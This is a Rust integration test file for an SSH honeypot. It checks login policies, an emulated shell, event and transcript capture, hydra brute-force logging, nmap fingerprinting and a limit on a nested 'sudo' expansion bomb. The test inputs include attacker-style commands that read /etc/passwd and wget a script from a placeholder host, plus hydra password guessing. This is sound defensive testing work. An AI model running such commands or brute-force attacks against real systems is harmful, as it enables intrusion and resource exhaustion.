//! The SSH honeypot's login policy and emulated shell against the real OpenSSH client:
//! refused then accepted per policy, a scripted session as exec and as an interactive
//! `ssh -tt` session (command and download events, and an asciicast transcript capture
//! that replays them), hydra with a 20×20 list under a `never` policy, and `nmap -sV`.

mod shell_common;
mod tools;
use honeybee_proto::config::{LoginPolicy, ServiceKind, SshOptions};
use honeybee_proto::event::{AuthMethod, EventKind};
use shell_common::*;
use std::net::SocketAddr;
use std::path::Path;
use std::process::Stdio;
use tokio::io::AsyncWriteExt;

const SCRIPT: &str = "uname -a; cat /etc/passwd; wget http://x/y.sh";
/// `uname -a` up to the kernel's ABI number, which is the node persona's own.
const UNAME: &str = "Linux web-prod-02 6.1.0-";

fn ssh(login: LoginPolicy, delay_ms: u32) -> ServiceKind {
    ServiceKind::Ssh(SshOptions {
        login,
        auth_failure_delay_ms: delay_ms,
        hostname: "web-prod-02".into(),
        ..Default::default()
    })
}

fn ssh_args(addr: SocketAddr, user: &str) -> Vec<String> {
    [
        "-F",
        "/dev/null",
        "-o",
        "StrictHostKeyChecking=no",
        "-o",
        "UserKnownHostsFile=/dev/null",
        "-o",
        "GlobalKnownHostsFile=/dev/null",
        "-o",
        "LogLevel=ERROR",
        "-o",
        "PreferredAuthentications=password",
        "-o",
        "PubkeyAuthentication=no",
        "-o",
        "ConnectTimeout=10",
        "-o",
        "NumberOfPasswordPrompts=3",
        "-p",
        &addr.port().to_string(),
        "-l",
        user,
        "127.0.0.1",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect()
}

/// An SSH_ASKPASS program answering `passwords` in turn, one per prompt.
fn askpass(dir: &Path, passwords: &[&str]) -> std::path::PathBuf {
    let script = dir.join("askpass.sh");
    let count = dir.join("askpass.count");
    let mut body = format!(
        "#!/bin/sh\nn=$(cat '{c}' 2>/dev/null || echo 0)\necho $((n+1)) > '{c}'\ncase $n in\n",
        c = count.display()
    );
    for (i, p) in passwords.iter().enumerate() {
        body.push_str(&format!("{i}) echo '{p}' ;;\n"));
    }
    body.push_str("*) echo nomore ;;\nesac\n");
    std::fs::write(&script, body).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o700)).unwrap();
    script
}

/// Checks the transcript of the scripted session: its input replays the three commands
/// and its output holds their answers.
fn check_transcript(cast: &Cast, interactive: bool) {
    let input = cast.stream("i");
    let output = cast.stream("o");
    if interactive {
        for c in ["uname -a", "cat /etc/passwd", "wget http://x/y.sh"] {
            assert!(input.contains(&format!("{c}\n")), "input {input:?}");
        }
        assert!(output.contains("root@web-prod-02:~# "), "{output}");
        assert_eq!(
            cast.header["env"]["TERM"].as_str().map(|t| !t.is_empty()),
            Some(true)
        );
    } else {
        assert_eq!(input, format!("{SCRIPT}\n"));
    }
    assert!(output.contains(UNAME), "{output}");
    assert!(
        output.contains("root:x:0:0:root:/root:/bin/bash"),
        "{output}"
    );
    assert!(
        output.contains("wget: unable to resolve host address 'x'"),
        "{output}"
    );
    // The answers come after the commands were typed.
    let first_input = cast.records.iter().position(|(_, c, _)| c == "i").unwrap();
    let uname_out = cast
        .records
        .iter()
        // `uname -a`'s line, not the login banner (`... x86_64` and then the motd).
        .position(|(_, c, d)| c == "o" && d.contains(UNAME) && d.contains("x86_64 GNU/Linux"))
        .unwrap();
    assert!(first_input < uname_out);
}

#[tokio::test]
async fn after_one_attempt_policy_then_scripted_exec() {
    tools::require(&["ssh", "sshpass"]);
    let dir = tempfile::tempdir().unwrap();
    let mut run = start(
        dir.path(),
        &one("ssh", ssh(LoginPolicy::AfterAttempts(1), 100)),
    )
    .await;
    let pass = askpass(dir.path(), &["first-try", "second-try"]);

    let out = tokio::time::timeout(
        WAIT,
        tokio::process::Command::new("ssh")
            .args(ssh_args(run.addr, "root"))
            .arg(SCRIPT)
            .env("SSH_ASKPASS", &pass)
            .env("SSH_ASKPASS_REQUIRE", "force")
            .env("DISPLAY", ":0")
            .stdin(Stdio::null())
            .kill_on_drop(true)
            .output(),
    )
    .await
    .expect("ssh in time")
    .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    // wget's status is the session's: resolution failed.
    assert_eq!(
        out.status.code(),
        Some(4),
        "stdout {stdout} stderr {stderr}"
    );
    assert!(
        stdout.starts_with(UNAME)
            && stdout.contains(" x86_64 GNU/Linux\nroot:x:0:0:root:/root:/bin/bash\n"),
        "{stdout}"
    );
    assert!(
        stderr.contains("Permission denied, please try again."),
        "{stderr}"
    );
    assert!(stderr.contains("Resolving x (x)... failed"), "{stderr}");

    let ev = until_disconnect(&mut run.rx).await;
    let a = attempts(&ev);
    assert_eq!(a.len(), 2, "{a:?}");
    assert_eq!(a[0].password.as_deref(), Some("first-try"));
    assert!(!a[0].success);
    assert_eq!(a[1].password.as_deref(), Some("second-try"));
    assert!(a[1].success);
    assert!(
        a.iter()
            .all(|x| x.method == AuthMethod::Password && x.username == "root")
    );
    assert_eq!(commands(&ev), vec![SCRIPT.to_owned()]);
    assert_eq!(
        downloads(&ev),
        vec![("http://x/y.sh".to_owned(), "wget".to_owned())]
    );

    // One transcript capture, announced by a Capture event of the same session.
    let cap = ev
        .iter()
        .find_map(|e| match &e.kind {
            EventKind::Capture {
                kind, sha256, size, ..
            } => Some((kind.clone(), sha256.clone(), *size)),
            _ => None,
        })
        .expect("capture event");
    assert_eq!(cap.0, "transcript");
    let t = transcripts(&run.spool);
    assert_eq!(t.len(), 1);
    assert_eq!(hex::encode(t[0].0.sha256), cap.1);
    assert_eq!(t[0].1.len() as u64, cap.2);
    assert_eq!(t[0].0.session, ev[0].session);
    check_transcript(&Cast::parse(&t[0].1), false);
    run.mgr.shutdown().await;
}

#[tokio::test]
async fn credentials_policy_lets_only_the_listed_pair_in() {
    tools::require(&["ssh", "sshpass"]);
    let dir = tempfile::tempdir().unwrap();
    let policy = LoginPolicy::Credentials(vec![("admin".into(), "s3cret!".into())]);
    let mut run = start(dir.path(), &one("ssh", ssh(policy, 50))).await;
    let try_login = |user: &'static str, pw: &'static str| {
        let args = ssh_args(run.addr, user);
        async move {
            tokio::time::timeout(
                WAIT,
                tokio::process::Command::new("sshpass")
                    .args(["-p", pw, "ssh"])
                    .args(args)
                    .arg("id")
                    .kill_on_drop(true)
                    .output(),
            )
            .await
            .expect("ssh in time")
            .unwrap()
        }
    };
    // Right password, wrong user; right user, wrong password: sshpass gives up (5).
    for (u, p) in [("root", "s3cret!"), ("admin", "admin")] {
        let out = try_login(u, p).await;
        assert_eq!(out.status.code(), Some(5), "{out:?}");
        let a = attempts(&until_disconnect(&mut run.rx).await);
        assert!(!a.is_empty() && a.iter().all(|x| !x.success), "{a:?}");
    }
    let out = try_login("admin", "s3cret!").await;
    assert!(out.status.success(), "{out:?}");
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "uid=1000(admin) gid=1000(admin) groups=1000(admin),24(cdrom),25(floppy),27(sudo),29(audio),30(dip),44(video),46(plugdev),100(users),106(netdev)\n"
    );
    let ev = until_disconnect(&mut run.rx).await;
    let a = attempts(&ev);
    assert_eq!(a.len(), 1);
    assert!(a[0].success);
    assert_eq!(commands(&ev), vec!["id".to_owned()]);
    run.mgr.shutdown().await;
}

#[tokio::test]
async fn interactive_tty_session_fed_on_stdin() {
    tools::require(&["ssh", "sshpass"]);
    let dir = tempfile::tempdir().unwrap();
    let mut run = start(dir.path(), &one("ssh", ssh(LoginPolicy::Always, 100))).await;
    let mut child = tokio::process::Command::new("sshpass")
        .args(["-p", "toor", "ssh", "-tt"])
        .args(ssh_args(run.addr, "root"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    stdin
        .write_all(b"uname -a\ncat /etc/passwd\nwget http://x/y.sh\nexit\n")
        .await
        .unwrap();
    drop(stdin);
    let out = tokio::time::timeout(WAIT, child.wait_with_output())
        .await
        .expect("ssh in time")
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    // `exit` without a status leaves with the last one, wget's.
    assert_eq!(out.status.code(), Some(4), "{out:?}");
    assert!(
        stdout.contains("Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY"),
        "{stdout}"
    );
    assert!(stdout.contains(UNAME), "{stdout}");
    assert!(stdout.contains(" x86_64 GNU/Linux\r\n"), "{stdout}");
    assert!(stdout.contains("root@web-prod-02:~# "), "{stdout}");
    assert!(stdout.contains("logout"), "{stdout}");

    let ev = until_disconnect(&mut run.rx).await;
    let a = attempts(&ev);
    assert_eq!(a.len(), 1);
    assert!(a[0].success && a[0].password.as_deref() == Some("toor"));
    assert_eq!(
        commands(&ev),
        vec!["uname -a", "cat /etc/passwd", "wget http://x/y.sh", "exit"]
    );
    assert_eq!(
        downloads(&ev),
        vec![("http://x/y.sh".to_owned(), "wget".to_owned())]
    );
    let t = transcripts(&run.spool);
    assert_eq!(t.len(), 1);
    let cast = Cast::parse(&t[0].1);
    check_transcript(&cast, true);
    run.mgr.shutdown().await;
}

#[tokio::test]
async fn hydra_ssh_every_attempt_recorded_once() {
    tools::require(&["hydra", "ssh", "sshpass"]);
    let dir = tempfile::tempdir().unwrap();
    // With OpenSSH's cap of 6 the server cuts the connection instead of answering the
    // 6th failure, as OpenSSH does, and hydra sends that pair again on a new connection;
    // a cap hydra never reaches makes "exactly once" a property of the server alone.
    let kind = ServiceKind::Ssh(SshOptions {
        login: LoginPolicy::Never,
        auth_failure_delay_ms: 10,
        max_auth_attempts: 1000,
        ..Default::default()
    });
    let mut run = start(dir.path(), &one("ssh", kind)).await;
    let out = hydra(dir.path(), "ssh", run.addr.port()).await;
    tools::assert_hydra_finished(
        out.status.success(),
        &String::from_utf8_lossy(&out.stdout),
        &String::from_utf8_lossy(&out.stderr),
    );
    let (_, _, pairs) = hydra_lists(dir.path());
    // Drain every event hydra's connections caused.
    let mut seen: Vec<(String, String)> = Vec::new();
    while let Ok(Some(e)) =
        tokio::time::timeout(std::time::Duration::from_secs(3), run.rx.recv()).await
    {
        if let EventKind::AuthAttempt(a) = e.kind
            && a.method == AuthMethod::Password
        {
            assert!(!a.success);
            seen.push((a.username, a.password.unwrap_or_default()));
        }
    }
    seen.sort();
    let mut want = pairs.clone();
    want.sort();
    assert_eq!(seen.len(), 400, "every attempt exactly once");
    assert_eq!(seen, want);
    // Still serving.
    let (name, product, _) = nmap_or_banner(run.addr).await;
    assert!(
        name.starts_with("SSH-2.0-OpenSSH") || product == "OpenSSH",
        "{name} {product}"
    );
    run.mgr.shutdown().await;
}

/// The server's identification line (a cheap "still answers" check).
async fn nmap_or_banner(addr: SocketAddr) -> (String, String, String) {
    use tokio::io::AsyncBufReadExt;
    let s = tokio::net::TcpStream::connect(addr).await.unwrap();
    let mut r = tokio::io::BufReader::new(s);
    let mut line = String::new();
    tokio::time::timeout(WAIT, r.read_line(&mut line))
        .await
        .unwrap()
        .unwrap();
    (line.trim().to_owned(), String::new(), String::new())
}

#[tokio::test]
async fn nmap_names_openssh() {
    tools::require(&["nmap"]);
    let dir = tempfile::tempdir().unwrap();
    let mut run = start(dir.path(), &one("ssh", ssh(LoginPolicy::Never, 10))).await;
    let (name, product, version) = nmap_service(run.addr.port()).await;
    assert_eq!(
        (name.as_str(), product.as_str()),
        ("ssh", "OpenSSH"),
        "{version}"
    );
    assert!(version.starts_with("9.2p1"), "{version}");
    run.mgr.shutdown().await;
}

/// Issue 11, finding 1, over a real SSH session: `S` holds 204 `sudo`s and
/// `sh -c "sudo$S$S…"` re-parses 12,240 of them. The line's work budget stops it (the
/// client sees `Killed`, `$?` is 137, a `LimitReached` event names the budget), the same
/// session answers the next command, and the agent serves a new connection.
#[tokio::test]
async fn sudo_bomb_line_is_stopped_and_the_session_goes_on() {
    tools::require(&["ssh", "sshpass"]);
    let dir = tempfile::tempdir().unwrap();
    let mut run = start(dir.path(), &one("ssh", ssh(LoginPolicy::Always, 10))).await;
    let set = format!("S='{}'", " sudo".repeat(204));
    let bomb = format!("sh -c \"sudo{} id\"", "$S".repeat(60));
    let mut child = tokio::process::Command::new("sshpass")
        .args(["-p", "toor", "ssh", "-tt"])
        .args(ssh_args(run.addr, "root"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    stdin
        .write_all(format!("{set}\n{bomb}\necho after-$?\necho ok\nexit\n").as_bytes())
        .await
        .unwrap();
    drop(stdin);
    let out = tokio::time::timeout(WAIT, child.wait_with_output())
        .await
        .expect("ssh in time")
        .unwrap();
    // bash turns bracketed paste off after each line.
    let stdout = String::from_utf8_lossy(&out.stdout).replace("\x1b[?2004l\r", "");
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    assert!(stdout.contains("\r\nKilled\r\n"), "{stdout}");
    assert!(!stdout.contains("uid=0"), "{stdout}");
    assert!(stdout.contains("\r\nafter-137\r\n"), "{stdout}");
    assert!(stdout.contains("\r\nok\r\n"), "{stdout}");
    assert!(stdout.contains("logout"), "{stdout}");

    let ev = until_disconnect(&mut run.rx).await;
    assert_eq!(
        commands(&ev),
        vec![set.as_str(), &bomb, "echo after-$?", "echo ok", "exit"]
    );
    let limits: Vec<(String, String)> = ev
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::LimitReached { limit, detail } => Some((limit.clone(), detail.clone())),
            _ => None,
        })
        .collect();
    assert_eq!(limits.len(), 1, "{limits:?}");
    assert_eq!(limits[0].0, "shell_budget");
    assert!(
        limits[0].1.contains("nesting depth budget of 16"),
        "{limits:?}"
    );

    // The same bomb as an exec request ends with a killed process's status, and the
    // agent keeps serving new connections.
    let exec = tokio::time::timeout(
        WAIT,
        tokio::process::Command::new("sshpass")
            .args(["-p", "toor", "ssh"])
            .args(ssh_args(run.addr, "root"))
            .arg(format!("{set}\n{bomb}"))
            .stdin(Stdio::null())
            .kill_on_drop(true)
            .output(),
    )
    .await
    .expect("ssh in time")
    .unwrap();
    assert_eq!(exec.status.code(), Some(137), "{exec:?}");
    assert_eq!(String::from_utf8_lossy(&exec.stderr), "Killed\n");
    let _ = until_disconnect(&mut run.rx).await;
    let again = tokio::time::timeout(
        WAIT,
        tokio::process::Command::new("sshpass")
            .args(["-p", "toor", "ssh"])
            .args(ssh_args(run.addr, "root"))
            .arg("echo ok")
            .stdin(Stdio::null())
            .kill_on_drop(true)
            .output(),
    )
    .await
    .expect("ssh in time")
    .unwrap();
    assert!(again.status.success(), "{again:?}");
    assert_eq!(String::from_utf8_lossy(&again.stdout), "ok\n");
    let ev = until_disconnect(&mut run.rx).await;
    assert_eq!(commands(&ev), vec!["echo ok"]);
    run.mgr.shutdown().await;
}
